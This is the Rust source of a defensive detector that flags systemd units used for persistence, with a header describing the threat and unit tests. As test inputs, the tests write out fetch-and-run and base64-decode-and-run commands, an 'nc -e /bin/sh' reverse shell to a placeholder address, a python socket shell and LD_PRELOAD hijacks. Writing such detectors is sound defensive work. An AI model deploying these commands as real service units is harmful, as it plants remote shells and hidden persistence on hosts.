//! A unit that starts what nobody honest makes a service of.
//!
//! # What it sees
//! A unit of systemd, of the system or of a user, that no package brought as it is, whose `Exec...=` starts a program
//! in a directory that everybody may write to or that does not outlive a boot, a hidden or disguised one, code that it
//! fetches or decodes a moment before, or a shell for whoever is at the other end of a connection, also by
//! `StandardInput=socket`; or whose
//! `Environment=` has a library loaded into it that no package owns.
//!
//! # Why it matters
//! A unit starts at boot as root, is started again when it ends, and looks like a hundred others.
//!
//! # Innocent causes
//! Units of admins whose programs lie in /opt, /srv, /usr/local or openly in a home are not reported.
//!
//! # What to do
//! `systemctl cat UNIT`, `systemctl status UNIT`. Keep a copy of the unit and of the program before you stop it.

use super::risk::{Sign, Weight};
use super::{foreign, judge, risky};
use crate::{Detector, Scene, subject};
use bstr::ByteSlice;
use keeneye_facts::{Autostart, AutostartKind, Finding, Level, Subject, Text};
use keeneye_world::{World, shell_line};

/// See the head of this file.
pub static DETECTOR: Detector = Detector {
    name: "persistence/unit-risky",
    title: "a unit starts what nobody honest makes a service of",
    level: Level::Suspicious,
    attack: &["T1543.002"],
    absolute: false,
    source: include_str!("unit_risky.rs"),
    run,
};

fn run(scene: &Scene<'_>) -> Vec<Finding> {
    foreign(scene.world, &[AutostartKind::Unit]).filter_map(|entry| look(scene, entry)).collect()
}

fn look(scene: &Scene<'_>, entry: &Autostart) -> Option<Finding> {
    let judged = judge(scene.world, entry).filter(|(level, _)| *level >= Level::Suspicious);
    let judged = judged.or_else(|| shell(entry)).or_else(|| judge(scene.world, entry))?;
    let finding = triggers(scene.world, entry).fold(risky(&DETECTOR, scene, entry, judged)?, Finding::related);
    Some(finding.innocent("a service of an admin or of an application", false, "ask whose it is; read the program"))
}

/// A shell or an interpreter that is handed a connection to read its commands from.
fn shell(entry: &Autostart) -> Option<(Level, Vec<Sign>)> {
    let handed = entry.when.ends_with(b"StandardInput=socket");
    let command = entry.command.trim_start_with(|c| "@-:+!|".contains(c)).as_bytes();
    let commands = shell_line::commands(command);
    let shell = commands.iter().filter(|_| handed).find(|command| command.reads_code())?;
    let value = shell.effective().first().cloned().unwrap_or_default();
    let sign = Sign { weight: Weight::Content, says: "gives a shell to whoever connects".into(), value };
    Some((if entry.dormant { Level::Unusual } else { Level::Suspicious }, vec![sign]))
}

/// The socket unit that starts a service whose input is a connection: it has the same name (systemd.socket(5)).
fn triggers<'a>(world: &'a World, entry: &'a Autostart) -> impl Iterator<Item = Subject> + use<'a> {
    let stem = entry.name.strip_suffix(b".service").filter(|_| entry.when.ends_with(b"StandardInput=socket"));
    let name = stem.map(|stem| Text::from([stem.strip_suffix(b"@").unwrap_or(stem), b".socket"].concat()));
    let path = name.map(|name| Text::from(entry.path.parent()).join(&name));
    path.into_iter().filter(|path| world.file(path).is_some()).map(|path| subject::file(&path))
}

#[cfg(test)]
mod tests {
    use crate::testing::check;
    const NAME: &str = "persistence/unit-risky";
    const UNIT: &str = "/etc/systemd/system/x.service";

    #[track_caller]
    fn check_exec(line: &str, expected: &str) {
        let expected: Vec<String> =
            if expected.is_empty() { vec![] } else { vec![format!("suspicious: {UNIT} line 2 {expected}")] };
        let expected: Vec<&str> = expected.iter().map(String::as_str).collect();
        check(NAME, &format!("package a 1\n{UNIT} = [Service]\\n{line}\\n"), &expected);
    }

    #[test]
    fn programs_in_odd_places() {
        let missing = "and is not there now";
        check_exec("ExecStart=/dev/shm/k", &format!("starts /dev/shm/k, which lies in /dev/shm {missing}"));
        check_exec("ExecStartPre=-/tmp/k", &format!("starts /tmp/k, which lies in /tmp {missing}"));
        check_exec("ExecStopPost=+/usr/lib/.k/k", &format!("starts /usr/lib/.k/k, which hides {missing}"));
        check_exec(
            "ExecStart=@/var/tmp/k [kworker/0:1]",
            &format!("starts /var/tmp/k, which lies in /var/tmp {missing}"),
        );
        check_exec("ExecStart=/bin/sh -c 'exec /tmp/k -d'", &format!("starts /tmp/k, which lies in /tmp {missing}"));
        check_exec(
            "ExecStart=/usr/bin/python3 \\\\\\n /tmp/k.py",
            &format!("starts /tmp/k.py, which lies in /tmp {missing}"),
        );
        check_exec("ExecStart=\"/tmp/a b\"", &format!("starts /tmp/a b, which lies in /tmp {missing}"));
        check_exec(
            "ExecStart=/lib/ld-musl-x86_64.so.1 --argv0 cron /tmp/k",
            &format!("starts /tmp/k, which lies in /tmp {missing}"),
        );
        check_exec("ExecStart=/opt/.k/k", &format!("starts /opt/.k/k, which hides {missing}"));
    }
    #[test]
    fn code_from_elsewhere() {
        check_exec("ExecStart=/bin/bash -c \"curl -s http://x | bash\"", "fetches code and runs it");
        check_exec("ExecStart=/bin/sh -c 'echo dHJ1ZQ== | base64 -d | sh'", "decodes code and runs it");
        check_exec(
            "ExecStart=/usr/bin/nc -e /bin/sh 192.0.2.1 443",
            "gives a shell to whoever is at the other end of a connection",
        );
        check_exec(
            "ExecStart=/usr/bin/python3 -c \"import socket,os;os.dup2(0,1);socket.socket()\"",
            "holds code that connects to elsewhere and runs what it is told",
        );
    }
    #[test]
    fn a_shell_for_a_connection() {
        let unit = "/etc/systemd/system/x@.service";
        let host = |line: &str, input: &str| {
            format!("package a 1\n{unit} = [Service]\\n{line}\\nStandardInput={input}\\n\n/bin/sh = x\n/bin/bash = x\n")
        };
        let text = format!("suspicious: {unit} line 2 gives a shell to whoever connects");
        for line in [
            "ExecStart=-/bin/bash -i",
            "ExecStart=/bin/sh",
            "ExecStart=/usr/bin/python3 -i",
            "ExecStart=/usr/bin/env TERM=x bash -i",
            "ExecStart=/bin/sh -c 'exec bash -i 2>&1'",
        ] {
            check(NAME, &host(line, "socket"), &[&text]);
            check(NAME, &host(line, "tty"), &[]);
        }
        for line in [
            "ExecStart=-/usr/sbin/sshd -i",
            "ExecStart=/usr/bin/python3 /srv/answer.py",
            "ExecStart=/bin/sh /usr/local/bin/answer",
            "ExecStart=/bin/sh -c 'cat /etc/motd'",
        ] {
            check(NAME, &host(line, "socket"), &[]);
        }
    }
    #[test]
    fn a_library_in_the_environment() {
        check_exec(
            "Environment=\"LD_PRELOAD=/etc/l.so\" A=b\\n\n/etc/l.so = x\n/etc/l.so : mode=100644\n/etc/hosts = ",
            "has what it starts load /etc/l.so, which no package owns",
        );
        let dir = "Environment=LD_LIBRARY_PATH=/var/lib/a\\n\n/etc/hosts = \n/var/lib/a/";
        check_exec(&format!("{dir}l.so = x"), "has what it starts load /var/lib/a/l.so, which no package owns");
        check_exec(&format!("{dir}l.txt = x"), "");
        check_exec("Environment=LD_PRELOAD=/opt/agent/l.so\\n\n/opt/agent/l.so = x\n/etc/hosts = ", "");
    }
    #[test]
    fn a_unit_of_a_user_and_one_that_sleeps() {
        let unit = "/home/anna/.config/systemd/user/x.service";
        let host =
            format!("package a 1\n/etc/passwd = anna:x:1000:1000::/home/anna:/bin/sh\\n\n{unit} = ExecStart=/tmp/k");
        check(
            NAME,
            &host,
            &[&format!("suspicious: {unit} line 1 starts /tmp/k, which lies in /tmp and is not there now")],
        );
        let text = "starts /tmp/k, which lies in /tmp and is not there now (does not start as it is)";
        check(NAME, &format!("{host}\\n[Install]\\n"), &[&format!("unusual: {unit} line 1 {text}")]);
    }
    #[test]
    fn units_of_packages_and_of_admins_are_quiet() {
        let unit = format!("{UNIT} = [Service]\\nExecStart=/tmp/k\\n\n");
        let text = format!("suspicious: {UNIT} line 2 starts /tmp/k, which lies in /tmp and is not there now");
        check(NAME, &unit, &[&text]);
        check(NAME, &format!("{unit}package x 1 owns {UNIT}"), &[]);
        for line in [
            "ExecStart=/srv/app/venv/bin/python /srv/app/serve.py",
            "ExecStart=/opt/agent/bin/agent --config /etc/agent.toml",
            "ExecStart=/usr/local/bin/own --pid /run/own.pid --log /tmp/own.log",
            "ExecStart=/bin/sh -c 'sleep 5; exec /opt/x/run'",
            "ExecStart=/home/anna/app/.venv/bin/gunicorn app:app",
            "ExecStart=/usr/bin/docker run --rm -v /tmp:/tmp x",
            "ExecStartPost=/usr/bin/curl -fsS https://hc-ping.com/x",
            "ExecReload=/bin/kill -HUP $MAINPID",
            "ExecStart=/lib64/ld-linux-x86-64.so.2 /usr/sbin/cron -f",
            "ExecStart=/usr/bin/true",
        ] {
            check_exec(line, "");
        }
    }
}
